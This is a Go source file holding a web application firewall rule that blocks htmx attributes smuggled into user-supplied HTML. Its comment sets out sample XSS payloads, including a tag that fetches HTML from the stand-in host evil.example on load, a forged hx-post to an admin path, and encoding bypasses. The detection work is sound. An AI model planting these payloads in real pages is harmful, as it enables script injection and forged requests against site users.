package waf

// htmxRules is rule 210122: htmx's attributes that send a request or run
// code, in a tag of the value (a fifteenth fresh-eyes attack, attack 19).
// A page that loads htmx and shows a user's HTML (a bio, a comment, a
// rich-text field whose sanitizer keeps unknown attributes) acts on them
// with no script in the value: <div hx-get="https://evil.example/x"
// hx-trigger="load" hx-swap="outerHTML"></div> makes htmx 1.x fetch the
// attacker's HTML into the page (its scripts run), and on htmx 2, which
// refuses other origins by default, <div hx-post="/admin/delete"
// hx-trigger="load"> still sends a request with the victim's cookies to
// the site's own path. The CRS refuses on*= event handlers in a tag
// (941160 and others), not these. Refused, as the CRS reads on*=: a tag
// (< and a letter), then, after white space, '/' or a quote, hx- or
// data-hx- and get, post, put, patch or delete with a URL of another
// origin (a scheme, https: or javascript:, or // and a host), on and
// any event (hx-on="click: ...", hx-on:click=, hx-on::after-request=,
// hx-on--after-request=: code htmx runs), or hx-vals or hx-headers with
// js: or javascript: (an expression htmx evaluates), then '='; and
// htmx 1.x's hx-sse and hx-ws and the extensions' sse-connect and
// ws-connect (attack 20: each loads another origin's HTML into the
// page); since attack 21, a URL written with character references or
// a tab or line break between its slashes (hx-get="&#47;/evil.example",
// "/&#9;/evil.example": the browser decodes the attribute, the URL
// parser drops the tab; the value is read HTML-entity-decoded), and
// hx-trigger with a filter ([...], JavaScript htmx evaluates:
// load[new Image().src=...]). Passing:
// prose that names the attributes without a tag ("use hx-get for that",
// "hx-post=\"/x\" sends a POST"), a class named so (<div class="hx-get">),
// hx-target, hx-swap and hx-trigger alone (<div hx-swap="outerHTML">),
// hx-vals with JSON (<div hx-vals='{"a":1}'>), and since a hunt for
// false positives (attack 20), which had a forum question's <button
// hx-get="/contacts/table">, a Markdown fence's <tr hx-delete="/rows/3">
// and a site builder's <form hx-post="/newsletter"> refused, requests to
// the site's own paths. Not refused, then: htmx 2's request to the
// site's own path (<div hx-post="/admin/delete" hx-trigger="load">),
// which is what the site's own markup does; an application that shows
// users' HTML on an htmx page must strip hx- attributes as it strips
// on*=. The false-positive risk: a forum post or an issue that quotes
// htmx markup with hx-on or a URL of another origin is refused, as one
// quoting <a onclick=...> is by the CRS.
const htmxRules = `SecRule ` + valueNameHeaderTargets + ` "@rx (?i)<[a-z][^>]*?[\s/'\x22](?:(?:data-)?(?:ws|sse)-connect\s*=|(?:data-)?hx-(?:(?:get|post|put|patch|delete)\s*=\s*['\x22]?\s*(?:[a-z][\w+.-]*:|[/\x5c][\t\r\n]*[/\x5c])|on[\w:.-]*\s*=|(?:sse|ws)\s*=|trigger\s*=\s*['\x22]?[^'\x22>]*\[|(?:vals|headers)\s*=\s*['\x22]?\s*(?:js|javascript)\s*:))" "id:210122,phase:2,block,t:none,t:urlDecodeUni,t:htmlEntityDecode,msg:'XSS: an htmx attribute that sends a request or runs code, in a tag',tag:'application-multi',tag:'attack-xss',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`
